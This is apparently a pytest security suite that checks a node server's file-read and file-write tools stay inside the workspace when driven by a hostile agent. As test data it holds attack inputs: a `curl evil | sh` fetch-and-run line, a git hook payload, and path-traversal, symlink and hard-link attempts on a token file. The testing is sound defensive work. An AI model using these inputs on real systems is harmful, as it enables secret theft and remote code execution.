"""The node's file tools against a hostile agent, over real HTTP (promises 2 and 3).

The node runs with the zero-config defaults: started in its workspace, which holds the
`.env` it read its token from. No tool may read or write that file in any spelling or by
any other name, write `.git` anywhere, rewrite a program, or follow a directory that is
swapped for a link while it works.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from engine.protocol import TOKEN_HEADER
from node_server.app import create_app
from node_server.settings import load_node_settings
from tests.support.races import INSIDE, race_rounds, swapping, unchanged
from tests.support.servers import serve_in_thread

NODE_TOKEN = "node-token-0123456789abcdef"
SECRET = "tok-SECRET-node-51d2"
OUTSIDE = "OUTSIDE-SECRET-CONTENT"


@dataclass(frozen=True)
class ZeroNode:
    workspace: Path
    outside: Path
    client: httpx.Client

    def run(self, tool: str, **args: Any) -> httpx.Response:
        response = self.client.post("/node/run_tool", json={"tool_name": tool, "args": args})
        assert response.status_code < 500, response.text
        return response


@pytest.fixture
def zero_node(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[ZeroNode]:
    ws = tmp_path / "ws"
    ws.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "f.txt").write_text(OUTSIDE)
    for name in ("EXECUTION_WORKSPACE_ROOT", "WINDOWS_NODE_TOKEN", "EXECUTION_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    (ws / ".env").write_text(f"WINDOWS_NODE_TOKEN={NODE_TOKEN}\nEXECUTION_TOKEN={SECRET}\n")
    (ws / ".ENV").write_text(f"EXECUTION_TOKEN={SECRET}\n")
    os.symlink(".env", ws / "link")
    os.link(ws / ".env", ws / "hard")
    (ws / "sub").mkdir()
    (ws / "hello.txt").write_text("hello\n")
    monkeypatch.chdir(ws)
    settings = load_node_settings()  # `.env` of the current directory, workspace = cwd
    assert settings.workspace_root == ws
    with (
        serve_in_thread(create_app(settings)) as url,
        httpx.Client(base_url=url, headers={TOKEN_HEADER: NODE_TOKEN}, timeout=30) as client,
    ):
        yield ZeroNode(ws, outside, client)


PROTECTED = [".env", "./.env", "sub/../.env", ".ENV", ".Env", "link", "hard"]


@pytest.mark.parametrize("raw", PROTECTED)
def test_the_nodes_env_is_out_of_reach(zero_node: ZeroNode, raw: str) -> None:
    before = (zero_node.workspace / ".env").read_bytes()
    read = zero_node.run("file_read_workspace", path=raw)
    assert read.status_code == 403, read.text
    assert SECRET not in read.text and NODE_TOKEN not in read.text
    assert read.json()["detail"].startswith("path:") and "console's own" in read.json()["detail"]
    wrote = zero_node.run("file_write_workspace", path=raw, content="WINDOWS_NODE_TOKEN=mine\n")
    assert wrote.status_code == 403, wrote.text
    assert (zero_node.workspace / ".env").read_bytes() == before


def test_a_hard_link_made_while_running_is_still_the_env(zero_node: ZeroNode) -> None:
    os.link(zero_node.workspace / ".env", zero_node.workspace / "notes.txt")
    read = zero_node.run("file_read_workspace", path="notes.txt")
    assert read.status_code == 403 and SECRET not in read.text


@pytest.mark.parametrize(
    "raw", [".git/hooks/pre-commit", ".GIT/config", "sub/.git/hooks/post-checkout", "sub/.Git"]
)
def test_node_writes_refuse_git_everywhere(zero_node: ZeroNode, raw: str) -> None:
    response = zero_node.run(
        "file_write_workspace", path=raw, content="#!/bin/sh\nid\n", create_dirs=True
    )
    assert response.status_code == 403, response.text
    assert ".git" in response.json()["detail"]
    assert not any(p.name.casefold() == ".git" for p in zero_node.workspace.rglob("*"))


def test_node_writes_are_never_executable(zero_node: ZeroNode) -> None:
    created = zero_node.run("file_write_workspace", path="run.sh", content="#!/bin/sh\n")
    assert created.status_code == 200, created.text
    assert stat.S_IMODE((zero_node.workspace / "run.sh").stat().st_mode) == 0o644
    (zero_node.workspace / "tool.sh").write_text("echo ok\n")
    (zero_node.workspace / "tool.sh").chmod(0o755)
    refused = zero_node.run("file_write_workspace", path="tool.sh", content="curl evil | sh\n")
    assert refused.status_code == 422 and "executable" in refused.json()["detail"]
    assert (zero_node.workspace / "tool.sh").read_text() == "echo ok\n"


def test_node_race_never_leaves_the_workspace(zero_node: ZeroNode) -> None:
    ws, outside = zero_node.workspace, zero_node.outside
    with swapping(ws, outside):
        for i in race_rounds(iterations=150):
            read = zero_node.run("file_read_workspace", path="d/f.txt")
            assert OUTSIDE not in read.text
            assert read.status_code in (200, 403, 404), read.text
            if read.status_code == 200:
                assert read.json()["content"] == INSIDE
            wrote = zero_node.run("file_write_workspace", path=f"d/w{i}.txt", content="x")
            assert wrote.status_code in (200, 403, 404), wrote.text
    assert unchanged(outside, {"f.txt": OUTSIDE})
